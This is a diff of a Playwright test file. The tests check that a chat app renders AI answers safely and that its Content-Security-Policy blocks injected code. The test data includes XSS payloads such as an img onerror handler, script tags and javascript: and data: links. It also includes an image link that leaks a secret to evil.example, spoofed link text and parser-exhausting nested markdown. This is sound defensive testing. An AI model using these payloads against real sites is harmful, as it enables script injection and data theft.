@@ -1,4 +1,4 @@
-import type { Page } from 'playwright-core'
+import type { Locator, Page } from 'playwright-core'
 import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest'
 import { useBrowser } from './support/browser.ts'
 import { ScriptedAgent } from './support/scripted-agent.ts'
@@ -20,20 +20,23 @@ beforeEach(() => {
 const markup =
   '<img src="//evil.example/x" onerror="document.title = \'pwned\'"><script>document.title = \'pwned\'</script>'
 
-async function answerWith(answer: string): Promise<Page> {
+/** Asks a question that is answered like this, and returns the answer once it is formatted. */
+async function answerWith(page: Page, answer: string): Promise<Locator> {
   agent.script = async (request, send) => send(turnStart(request), result(request, answer))
-  const page = await browser.open(agent.url)
-  await (await ask(page, 'question')).getByText('first word', { exact: false }).waitFor()
-  await page.locator('.answer-text > :not(.plain)').first().waitFor()
-  return page
+  const message = await ask(page, `question ${await page.getByRole('article').count()}`)
+  await message.getByText('first word', { exact: false }).waitFor()
+  const text = message.locator('.answer-text')
+  await text.locator('> :not(.plain)').first().waitFor()
+  return text
 }
 
 describe('Markdown of an answer', () => {
   it('becomes headings, lists, tables, code and links', async () => {
-    const page = await answerWith(
+    const page = await browser.open(agent.url)
+    const text = await answerWith(
+      page,
       '# Head\n\nOne **two** _three_ `four`\nnext line\n\n- a\n- b\n\n3. c\n\n| x | y |\n|---|---|\n| 1 | 2 |\n\n```\ncode <b>\n```\n\n> quote\n\n[more](https://example.com/a?b=c)',
     )
-    const text = page.locator('.answer-text')
     const counts = Object.fromEntries(
       await Promise.all(
         ['h3', 'strong', 'em', 'li', 'td', 'pre', 'blockquote', 'br'].map(async name => [
@@ -54,24 +57,28 @@ describe('Markdown of an answer', () => {
     expect(await link.getAttribute('rel')).toBe('noopener noreferrer')
   })
 
-  it.each([
-    ['HTML', markup, 'onerror'],
-    ['an image', '![secret](https://evil.example/?d=secret)', '![secret]'],
-    ['a script link', '[click](javascript:document.title=1)', 'javascript:'],
-    ['a data link', '[click](data:text/html,<script>1</script>)', 'data:text/html'],
-    ['a plain http link', '[click](http://evil.example)', 'http://evil.example'],
-    ['a bare address', 'http://evil.example/path', 'http://evil.example/path'],
-    ['a reference', '[click][r]\n\n[r]: javascript:alert(1)', '[click][r]'],
-    ['an autolink', '<javascript:alert(1)>', 'javascript:alert(1)'],
-  ])('leaves %s as the text that it is', async (_what, answer, words) => {
-    const page = await answerWith(answer)
-    expect(await page.locator('.answer-text').textContent()).toContain(words)
-    expect(await page.locator('.answer-text :is(img, script, a, iframe, svg)').count()).toBe(0)
-    expect(await page.title()).not.toContain('pwned')
+  it('leaves what could do harm as the text that it is', async () => {
+    const page = await browser.open(agent.url)
+    for (const [answer, words] of [
+      [markup, 'onerror'],
+      ['![secret](https://evil.example/?d=secret)', '![secret]'],
+      ['[click](javascript:document.title=1)', 'javascript:'],
+      ['[click](data:text/html,<script>1</script>)', 'data:text/html'],
+      ['[click](http://evil.example)', 'http://evil.example'],
+      ['http://evil.example/path', 'http://evil.example/path'],
+      ['[click][r]\n\n[r]: javascript:alert(1)', '[click][r]'],
+      ['<javascript:alert(1)>', 'javascript:alert(1)'],
+    ] as const) {
+      const text = await answerWith(page, answer)
+      expect(await text.textContent()).toContain(words)
+      expect(await text.locator(':is(img, script, a, iframe, svg)').count(), answer).toBe(0)
+      expect(await page.title(), answer).not.toContain('pwned')
+    }
   })
 
   it('says where a link leads whose text names another host or is read in another direction', async () => {
-    const page = await answerWith(
+    const text = await answerWith(
+      await browser.open(agent.url),
       [
         '[https://login.microsoftonline.com](https://evil.example/?q=secret)',
         '[\u202emoc.tfosorcim.nigol](https://evil.example)',
@@ -79,25 +86,28 @@ describe('Markdown of an answer', () => {
         'https://docs.example/index.html',
       ].join('\n'),
     )
-    expect(await page.locator('.answer-text a').allTextContents()).toEqual([
+    expect(await text.locator('a').allTextContents()).toEqual([
       'https://login.microsoftonline.com (evil.example)',
       'moc.tfosorcim.nigol (evil.example)',
       'How to sign in',
       'https://docs.example/index.html',
     ])
-    expect(await page.locator('.answer-text a a').count()).toBe(0)
+    expect(await text.locator('a a').count()).toBe(0)
   })
 
-  it.each([
-    ['quotes', `${'>'.repeat(20_000)} deep`],
-    ['lists', `${'- '.repeat(16_000)} deep`],
-    ['emphasis', `${'*a **a '.repeat(2_000)} deep ${'b** b* '.repeat(2_000)}`],
-    ['emphasis that overlaps', `${'*a_'.repeat(11_000)} deep`],
-    ['brackets', `${'['.repeat(32_000)} deep`],
-  ])('that is nested beyond reason stands as it is: %s', async (_what, answer) => {
-    const page = await answerWith(`What is *not* nested\n\n${answer}`)
-    expect(await page.locator('.answer-text em').allTextContents()).toEqual(['not'])
-    expect(await page.locator('.answer-text p').last().textContent()).toBe(answer)
+  it('that is nested beyond reason stands as it is', async () => {
+    const page = await browser.open(agent.url)
+    for (const nested of [
+      `${'>'.repeat(20_000)} deep`,
+      `${'- '.repeat(16_000)} deep`,
+      `${'*a **a '.repeat(2_000)} deep ${'b** b* '.repeat(2_000)}`,
+      `${'*a_'.repeat(11_000)} deep`,
+      `${'['.repeat(32_000)} deep`,
+    ]) {
+      const text = await answerWith(page, `What is *not* nested\n\n${nested}`)
+      expect(await text.locator('em').allTextContents()).toEqual(['not'])
+      expect(await text.locator('p').last().textContent()).toBe(nested)
+    }
   })
 })
 
@@ -137,24 +147,20 @@ describe('hostile text', () => {
   })
 })
 
-describe('the Content-Security-Policy', () => {
-  it.each([
-    ['markup by innerHTML', "document.body.innerHTML = '<b>x</b>'"],
-    ['code from a timer', "setTimeout('document.title = 1')"],
-    ['a policy of one’s own', "trustedTypes.createPolicy('mine', {})"],
-    ['a script from elsewhere', "document.createElement('script').src = 'https://evil.example/x.js'"],
-    ['a document', "document.write('<b>x</b>')"],
-  ])('keeps out %s', async (_what, code) => {
-    const page = await browser.open(agent.url, { tolerateFaults: true })
-    await page.getByLabel('Your question').waitFor()
-    await expect(page.evaluate(`{ ${code} }`)).rejects.toThrow(/Trusted|policy|Content Security Policy|CSP/i)
-  })
-
-  it('lets no request leave for another host', async () => {
-    const page = await browser.open(agent.url, { tolerateFaults: true })
-    await page.getByLabel('Your question').waitFor()
-    await expect(page.evaluate("fetch('https://evil.example')")).rejects.toThrow()
-  })
+it('the Content-Security-Policy keeps out code from anywhere else, and requests to other hosts', async () => {
+  const page = await browser.open(agent.url, { tolerateFaults: true })
+  await page.getByLabel('Your question').waitFor()
+  for (const code of [
+    "document.body.innerHTML = '<b>x</b>'",
+    "setTimeout('document.title = 1')",
+    "trustedTypes.createPolicy('mine', {})",
+    "document.createElement('script').src = 'https://evil.example/x.js'",
+    "document.write('<b>x</b>')",
+  ])
+    await expect(page.evaluate(`{ ${code} }`), code).rejects.toThrow(
+      /Trusted|policy|Content Security Policy|CSP/i,
+    )
+  await expect(page.evaluate("fetch('https://evil.example')")).rejects.toThrow()
 })
 
 it('before somebody signs in, nothing is asked of any other host', async () => {
